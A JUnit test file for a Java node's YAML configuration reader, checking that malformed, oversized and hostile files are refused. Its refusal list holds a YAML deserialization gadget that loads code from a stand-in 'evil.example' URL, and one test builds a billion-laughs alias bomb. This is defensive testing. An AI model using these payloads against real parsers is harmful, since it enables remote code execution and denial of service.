package io.pollux.node;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.pollux.core.PolluxException;
import io.pollux.core.PolluxException.Reason;
import java.lang.reflect.RecordComponent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigFileTest {
  @TempDir Path directory;

  private PolluxException refusal(String text) throws Exception {
    Path file = directory.resolve("pollux.yaml");
    Files.writeString(file, text);
    PolluxException refusal =
        assertThrows(PolluxException.class, () -> ConfigFile.read(file), text);
    assertEquals(Reason.BAD_CONFIGURATION, refusal.reason(), text);
    assertTrue(refusal.getMessage().contains("pollux.yaml"), refusal.getMessage());
    return refusal;
  }

  @Test
  void aFileThatIsNoConfigurationIsRefusedAndNeverHalfRead() throws Exception {
    for (String text :
        List.of(
            "",
            "null",
            "7",
            "[]",
            "---\n---\n",
            "a: b",
            "role: KING",
            "id: [1, 2]",
            "failoverTimeout: forever",
            "failoverTimeout: 99999999999999999999s",
            "&a [*a]",
            "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil.example/']]",
            "? {a: b}\n: c",
            "\u0000",
            "id: \"\\uD800\"",
            "%YAML 9.9\n---\nid: a",
            "a: b\na: c",
            "[".repeat(20_000),
            "{a: ".repeat(10_000),
            "- ".repeat(20_000),
            "x".repeat(70_000))) {
      refusal(text);
    }
  }

  private static final String WHOLE =
      "id: i\nname: n\ngroup: 0123456789abcdef0123456789abcdef\nrole: master\nlisten: h:1\n"
          + "database:\n  url: jdbc:derby:x\n";

  @Test
  void aSettingThatCanNotWorkIsRefusedWithTheReason() throws Exception {
    assertTrue(
        refusal(WHOLE + "startupAllowance: 0s\n").getMessage().contains("its peer was promoted"));
    for (String setting :
        List.of("failoverTimeout: 0s", "receiptTimeout: 0ms", "sweepPause: 0s", "logSize: 0GB")) {
      refusal(WHOLE + setting + "\n");
    }
  }

  /** Each component of the record has a row, in this order, with its default. */
  @Test
  void thePageOfSettingsIsRight() throws Exception {
    Path file = directory.resolve("pollux.yaml");
    Files.writeString(file, WHOLE + "sweep: off\nrepair: off\n");
    assertEquals(NodeConfig.Sweeping.OFF, ConfigFile.read(file).sweep());
    assertEquals(NodeConfig.Repairing.OFF, ConfigFile.read(file).repair());
    Files.writeString(file, WHOLE);
    ConfigFile.write(file, ConfigFile.read(file));
    List<String> written = Files.readAllLines(file);
    List<String> rows =
        Files.readAllLines(Path.of("../docs/settings.md")).stream()
            .filter(line -> line.startsWith("| `"))
            .toList();
    List<String> expected =
        Stream.of(NodeConfig.class.getRecordComponents())
            .map(component -> "| `" + component.getName() + "` | " + defaultOf(component, written))
            .toList();
    assertEquals(
        expected,
        rows.stream()
            .map(row -> row.substring(0, row.indexOf(" |", row.indexOf(" |") + 2)))
            .toList());
  }

  private static String defaultOf(RecordComponent component, List<String> written) {
    String key = component.getName() + ": ";
    return written.stream()
        .filter(line -> line.startsWith(key) && !WHOLE.contains(key))
        .map(
            line ->
                "`" + line.substring(key.length()).toLowerCase(Locale.ROOT).replace("\"", "") + "`")
        .map(
            value -> component.getType() == ByteSize.class ? value.toUpperCase(Locale.ROOT) : value)
        .findFirst()
        .orElse("–");
  }

  @Test
  void aliasesThatExplodeDoNot() {
    StringBuilder bomb = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
    for (int i = 1; i < 30; i++) {
      bomb.append("a%d: &a%d [*a%d,*a%d,*a%d,*a%d]\n".formatted(i, i, i - 1, i - 1, i - 1, i - 1));
    }
    assertTimeoutPreemptively(Duration.ofSeconds(20), () -> refusal(bomb.toString()));
  }
}
